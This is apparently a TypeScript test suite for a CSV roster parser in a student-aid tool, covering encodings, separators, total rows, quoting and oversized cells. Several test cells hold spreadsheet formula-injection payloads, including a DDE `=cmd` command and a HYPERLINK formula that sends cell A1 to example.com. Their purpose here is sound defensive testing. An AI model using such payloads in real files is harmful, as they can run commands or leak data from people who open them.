/** 名册.csv as spreadsheets, input methods and people leave it. */
import { accepted, campaign, type Entry, lines, type Outcome, type Page, refused, repeat } from './entry.ts';

const heading = '学生,家长,单位,学段,金额';
const person = '卞小雨,卞国安,云岭林场,本科,5000元';

const file = (name: string, content: string | Uint8Array, must: Outcome): Entry => ({
  name,
  files: { '活动.yaml': campaign('名册: 名册.csv\n附件: [名册]'), '名册.csv': content },
  must,
});
const rows = (name: string, content: string, must: Outcome) => file(name, `${heading}\n${content}\n`, must);
/** One cell where the unit's name stands. */
const unit = (name: string, cell: string, must: Outcome) =>
  rows(
    name,
    person.replace('云岭林场', () => cell),
    must,
  );
const amount = (cell: string, must: Outcome) =>
  rows(
    `金额: ${cell}`,
    person.replace('5000元', () => cell),
    must,
  );
const separated = (name: string, mark: string) =>
  file(name, `${heading}\n${person}\n`.replaceAll(',', mark), accepted({ prints: '卞小雨' }));
const one = accepted({ prints: ['卞小雨', '5000元'] });

export const page: Page = {
  title: '名册（CSV）',
  entries: [
    rows('照规矩写的', person, one),
    file('带标记', `\ufeff${heading}\n${person}\n`, one),
    file('CRLF 换行', `${heading}\r\n${person}\r\n`, one),
    file('CR 换行', `${heading}\r${person}\r`, one),
    ...['\u2028', '\u2029', '\u0085', '\v', '\f'].map((end) =>
      file(
        `换行是 ${JSON.stringify(end)}`,
        `${heading}\n${person}\n符宁,符海,云岭林场,本科,3000元\n`.replaceAll('\n', end),
        accepted({ prints: ['卞小雨', '符宁'] }),
      ),
    ),
    ...['\u2028', '\u0085'].map((end) =>
      file(
        `一处换行是 ${JSON.stringify(end)}`,
        `${heading}\n${person}${end}符宁,符海,云岭林场,本科,3000元\n`,
        accepted({ prints: ['卞小雨', '符宁', '8000元'] }),
      ),
    ),
    unit('格里有 U+2028', '云岭\u2028林场', accepted({ prints: ['云岭', '林场', '5000元'] })),
    file('没有最后的换行', `${heading}\n${person}`, one),
    file('前面有空行', `\n\n\n${heading}\n\n${person}\n\n`, one),
    file('前面有标题和填报单位', `2025年金秋助学名册\n填报单位：云岭县总工会\n${heading}\n${person}\n`, one),
    separated('分号分隔', ';'),
    separated('制表符分隔', '\t'),
    separated('竖线分隔', '|'),
    separated('全角逗号分隔', '，'),
    separated('全角分号分隔', '；'),
    separated('全角竖线分隔', '｜'),
    file('有 sep= 一行', `sep=,\n${heading}\n${person}\n`, one),
    file('顿号分隔', `${heading}\n${person}\n`.replaceAll(',', '、'), refused('roster-file.no-heading')),
    file('空格分隔', `${heading}\n${person}\n`.replaceAll(',', ' '), refused('roster-file.no-heading')),
    file('空文件', '', refused('roster-file.no-heading')),
    file('只有表头', `${heading}\n`, refused('completeness.roster-unfilled')),
    file('没有表头', `${person}\n`, refused('roster-file.no-heading')),
    file('只认得一列的表头', '学生,甲,乙\n卞小雨,1,2\n', refused('roster-file.no-heading')),
    file('表头写了两遍', `${heading}\n${heading}\n${person}\n`, one),
    file(
      '表头重复的列',
      `${heading},学生\n${person},符宁\n`,
      refused('roster-file.repeated-heading@名册.csv:1:16'),
    ),
    file(
      '表头里有换行',
      `"学生\n姓名",家长,单位,学段,"金额\n（元）"\n卞小雨,卞国安,云岭林场,本科,5000\n`,
      one,
    ),
    file(
      '认不得的一列',
      `${heading},星座\n${person},白羊\n`,
      accepted({ tells: 'roster-file.unknown-heading', nowhere: '白羊' }),
    ),
    file(
      '认不得的金额列',
      '学生,单位,补贴款数\n卞小雨,云岭林场,5000\n',
      refused('roster-file.unknown-money@名册.csv:1:7'),
    ),
    file(
      '没有表头的一列',
      `${heading}\n${person},多出来的\n`,
      accepted({ tells: 'roster-file.no-column-name', nowhere: '多出来的' }),
    ),
    file(
      '表头是 __proto__',
      `${heading},__proto__\n${person},x\n`,
      accepted({ tells: 'roster-file.unknown-heading' }),
    ),
    rows('少了几格', '卞小雨,卞国安', accepted({ prints: '卞小雨' })),
    rows('没有学生的一行', `${person}\n,符海,云岭林场,本科,3000元`, refused('schema.missing@名册.csv:3:1')),
    rows('空的一行', `${person}\n,,,,\n`, one),
    rows('只有空格的一行', `${person}\n , ,　, ,\n`, one),
    rows('合计行', `${person}\n合计,,,,5000元`, one),
    rows(
      '两个多余的引号之间隔着一行',
      `${person}\n卞小雪,"卞国强,云岭林场,本科,5000元\n卞小霜,卞国庆",云岭林场,本科,5000元`,
      refused('csv.rows-in-cell@名册.csv:3:5'),
    ),
    ...['汇总', '共计', '大写：伍仟元整', 'Total', 'SUM'].map((foot) =>
      rows(
        `“${foot}”也是合计行`,
        `${person}\n${foot},,,,5000元`,
        accepted({ prints: '1名', nowhere: '1万元' }),
      ),
    ),
    ...['平均', '人均'].map((foot) =>
      rows(
        `“${foot}”一行不是人`,
        `${person}\n${foot},,,,5000元`,
        accepted({ tells: 'roster-file.footer', nowhere: '1万元' }),
      ),
    ),
    rows('合计行不对', `${person}\n合计,,,,8000元`, refused('consistency.roster-total')),
    rows('小计和总计', `${person}\n小计,1人,,,5000元\n总计,1人,,,5000元`, one),
    rows('备注像合计', `${person}\n符宁,符海,累计,本科,3000元`, accepted({ prints: ['符宁', '8000元'] })),
    rows(
      '姓名是“总计”的人',
      `${person}\n总计,符海,云岭林场,本科,3000元`,
      accepted({ prints: ['总计', '8000元'] }),
    ),
    ...['备注：低保', '审核：通过', '说明：无', '日期：8月', '盖章：'].map((first) =>
      file(
        `第一列是“${first}”的学生`,
        `类别,${heading}\n${first},${person}\n`,
        accepted({ prints: ['卞小雨', '5000元'] }),
      ),
    ),
    rows('单位是小计、没有学生', `${person}\n,符海,小计,本科,3000元`, refused('schema.missing@名册.csv:3:1')),
    file(
      '姓名在序号一列',
      `序号,${heading}\n1,${person}\n符宁\n`,
      accepted({ tells: 'roster-file.row-left-out' }),
    ),
    file(
      '备注像示例行',
      `${heading},备注\n${person},示例行小学\n`,
      accepted({ prints: ['卞小雨', '5000元'] }),
    ),
    file(
      '示例行改成了真的学生',
      `${heading},备注\n${person},\n符宁,符海,云岭林场,本科,3000元,示例行，填好以后请删去\n`,
      accepted({ tells: 'roster-file.filled-sample' }),
    ),
    rows(
      '表尾的落款',
      `${person}\n填表人：马春梅,,,审核人：何志远,`,
      accepted({ tells: 'roster-file.footer', nowhere: '马春梅' }),
    ),
    rows('同一个学生两行', `${person}\n${person}`, refused('duplicates.aid@名册.csv:3:1')),
    rows(
      '同名的两个学生',
      `${person}\n${person.replace('卞国安', '卞建设')}`,
      accepted({ prints: '卞小雨' }),
    ),
    rows(
      '引号没有合上',
      `"${person}\n符宁,符海,云岭林场,本科,3000元`,
      refused('csv.unclosed-quote@名册.csv:2:1'),
    ),
    file(
      '最后一行没有存完',
      `${heading}\n${person}\n符宁,符海,云岭林`,
      accepted({ tells: 'csv.cut-short@名册.csv:3:1' }),
    ),
    file('表头多一列', `${heading},备注\n${person}`, accepted({ tells: 'csv.cut-short@名册.csv:2:1' })),
    file('末尾没有换行', `${heading}\n${person}`, one),
    file('存到一半的引号', `${heading}\n"${person.slice(0, 9)}`, refused('csv.unclosed-quote@名册.csv:2:1')),
    unit('引号后面还有字', '"云岭"林场', accepted({ tells: 'csv.text-after-quote', prints: '云岭林场' })),
    unit('引号在中间', '云岭"林"场', accepted({ prints: '云岭"林"场' })),
    unit('双写的引号', '"云岭""林""场"', accepted({ prints: '云岭"林"场' })),
    unit('格里有逗号', '"云岭,林场"', accepted({ prints: '云岭,林场' })),
    unit('格里有换行', '"云岭\n林场"', accepted({ prints: '云岭林场' })),
    rows(
      '一格里两名学生，各一行',
      person.replace('卞小雨', '"卞小雨\n卞小雪"'),
      refused('names.several@名册.csv:2:1'),
    ),
    rows(
      '一格里两位家长，各一行',
      person.replace('卞国安', '"卞国安\n符小红"'),
      accepted({ prints: '卞国安 符小红' }),
    ),
    unit('单引号的文字', "'云岭林场", accepted({ prints: '云岭林场' })),
    unit('等号引号', '="云岭林场"', accepted({ prints: '云岭林场' })),
    unit('公式 =cmd', "=cmd|'/C calc'!A0", accepted({ prints: "=cmd|'/C calc'!A0" })),
    unit(
      '公式 HYPERLINK',
      '"=HYPERLINK(""http://example.com?x=""&A1,""点这里"")"',
      accepted({ prints: 'HYPERLINK' }),
    ),
    unit('公式 +', '+1+cmd', accepted({ prints: '+1+cmd' })),
    unit('公式 @', '@SUM(A1)', accepted({ prints: '@SUM(A1)' })),
    unit('空字符', '云岭\0林场', accepted({ prints: '云岭林场', tells: 'encoding.control-character' })),
    unit('响铃', '云岭\u0007林场', accepted({ prints: '云岭林场' })),
    unit('零宽空格', '云岭\u200b林场', accepted({ prints: '云岭林场', tells: 'encoding.hidden-character' })),
    unit('模板的记号', '{{ 单位.全称 }}{% if %}', accepted({ prints: '{{ 单位.全称 }}{% if %}' })),
    unit('表格的竖线', '云岭|林场', accepted({ prints: '云岭|林场' })),
    unit('XML 的记号', '<w:p/>&amp;]]>', accepted({ prints: '<w:p/>&amp;]]>' })),
    unit('三十万字的一格', repeat('云', 300_000), refused('schema.too-long@名册.csv:2:9')),
    unit('九千字的一格', repeat('云', 9000), accepted()),
    unit('锟斤拷', '锟斤拷林场', accepted({ tells: 'encoding.garbled' })),
    rows(
      '三十万字的姓名',
      `${repeat('卞', 300_000)},卞国安,云岭林场,本科,5000元`,
      refused('schema.too-long'),
    ),
    rows('姓名里有问号', person.replace('卞小雨', '卞?雨'), refused('names.garbled@名册.csv:2:1')),
    rows('姓名只有一个字', person.replace('卞小雨', '卞'), refused('names.garbled@名册.csv:2:1')),
    rows('姓名是数字', person.replace('卞小雨', '12345'), refused('names.number@名册.csv:2:1')),
    rows('一格两名学生', person.replace('卞小雨', '卞小雨、卞小雪'), refused('names.several@名册.csv:2:1')),
    amount('5000', one),
    amount('5000元/年', refused('schema.value@名册.csv:2:17')),
    amount('"5,000元"', one),
    amount('５０００元', one),
    amount('0.5万元', one),
    amount('五千元', one),
    amount('-5000元', refused('schema.value')),
    amount('5E3', refused('schema.value')),
    amount('#REF!', refused('schema.value')),
    amount('=SUM(A1:A2)', refused('schema.value')),
    amount('待定', refused('schema.value')),
    amount('/', accepted({ prints: '卞小雨' })),
    amount('——', accepted({ prints: '卞小雨' })),
    amount('无', refused('schema.value')),
    file('五千行', `${heading}\n${lines(5000, (n) => `学生${n},,云岭林场,本科,100元`)}\n`, accepted()),
    file('一万列', `${heading}${repeat(',', 10_000)}\n${person}\n`, one),
    file(
      '一百二十万格',
      `${heading}\n${lines(12, () => repeat('一,', 100_000))}\n`,
      refused('csv.too-large@名册.csv:1:1'),
    ),
    file(
      'GBK',
      Buffer.from('d1a7c9fa2cb5a5cebb0ab1e5d0a1d3ea2cc1d6b3a10a', 'hex'),
      accepted({ prints: '卞小雨', tells: 'encoding.gbk' }),
    ),
    file(
      'UTF-16',
      Buffer.from(`\ufeff${heading}\n${person}\n`, 'utf16le'),
      accepted({ prints: '卞小雨', tells: 'encoding.utf16' }),
    ),
    file('乱码的字节', Buffer.from([0xff, 0x81, 0xff, 0x00, 0xff]), refused('encoding.undecodable')),
    file('是 PDF', '%PDF-1.7\n', refused('encoding.not-text')),
    file('是网页表格', `<table><tr><td>学生</td></tr></table>`, refused('roster-file.no-heading')),
  ],
};
